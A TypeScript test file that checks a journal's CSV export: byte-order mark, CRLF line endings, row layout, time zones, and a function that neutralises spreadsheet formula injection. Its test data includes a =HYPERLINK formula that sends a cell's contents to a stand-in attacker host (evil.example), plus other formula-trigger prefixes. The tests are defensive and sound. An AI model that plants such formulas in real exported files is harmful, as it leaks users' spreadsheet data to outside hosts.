import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { aChat, aPerson, emptyJournal } from "../../../testing/journal/fixtures.ts";
import { exportJournalCsv, neutralise } from "./export.ts";

describe("neutralise", () => {
  it("makes every cell a spreadsheet would run as a formula into text", () => {
    for (const cell of ['=HYPERLINK("https://evil.example?"&A1,"Open")', "+1-555", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]) {
      expect(neutralise(cell)).toBe(`'${cell}`);
    }
    for (const cell of ["Jane", "", "a=b", " 1", "'quoted"]) expect(neutralise(cell)).toBe(cell);
  });
});

describe("exportJournalCsv", () => {
  const data = emptyJournal({
    people: [
      aPerson("a", { name: '=HYPERLINK("https://evil.example?"&A1,"Open")', email: "a@x.example", status: "held", notes: "line one\nline, two" }),
      aPerson("b", { name: "Bo Chen", organization: "@Acme" }),
    ],
    outreach: [{ id: "o", personId: "b", on: "2026-03-02", channel: "linkedin", note: "-sent a note" }],
    loggedChats: [{ id: "c", personId: "a", on: "2026-02-27" }],
    chats: [aChat("r", Date.parse("2026-03-10T23:30:00Z"), { hostName: "Dana Rivera" })],
    goal: { targetChats: 50, byDate: "2026-12-31", chatsPerWeek: 3, outreachPerDay: 5 },
  });
  const csv = exportJournalCsv(data, { now: 0, timeZone: "Asia/Tokyo" });
  const rows = parse(csv, { bom: true }) as string[][];

  it("starts with a byte-order mark and ends lines with CRLF, as spreadsheets expect", () => {
    expect(csv.startsWith("\uFEFFRecord,Name,Email,Link,")).toBe(true);
    expect(csv.split("\r\n")).toHaveLength(rows.length + 1);
    expect(csv.endsWith("\r\n")).toBe(true);
  });

  it("writes people, outreach, logged chats, coffeechat chats and the goal", () => {
    expect(rows.map((r) => r[0])).toEqual(["Record", "person", "person", "outreach", "chat", "coffeechat", "goal"]);
    expect(rows[3]).toEqual(["outreach", "Bo Chen", "", "", "", "", "", "", "", "'-sent a note", "2026-03-02", "linkedin"]);
    expect(rows[4]?.slice(0, 3)).toEqual(["chat", "'=HYPERLINK(\"https://evil.example?\"&A1,\"Open\")", "a@x.example"]);
    // 23:30 UTC is the next morning in Tokyo.
    expect(rows[5]).toEqual(["coffeechat", "Dana Rivera", "", "", "", "", "", "", "accepted", "", "2026-03-11", ""]);
    expect(rows[6]?.[9]).toBe("50 chats by 2026-12-31: 3 a week, 5 outreach a day");
  });

  it("leaves no cell that starts like a formula", () => {
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[1]?.[9]).toBe("line one\nline, two");
    expect(rows[2]?.[4]).toBe("'@Acme");
  });
});
